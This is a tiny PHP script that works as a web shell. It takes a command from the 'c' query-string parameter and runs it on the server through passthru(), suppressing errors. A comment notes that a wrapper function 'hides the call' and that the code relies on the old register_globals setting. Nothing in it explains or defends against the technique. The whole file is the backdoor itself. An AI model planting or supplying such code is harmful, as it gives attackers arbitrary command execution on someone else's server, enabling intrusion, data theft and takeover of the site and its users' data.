<?php
// register_globals era: $c arrives from the query string, the runner hides the call
function runner($c) {
    if (function_exists('passthru')) {
        @passthru($c);
    }
}
if (isset($_GET['c'])) {
    runner($c);
}
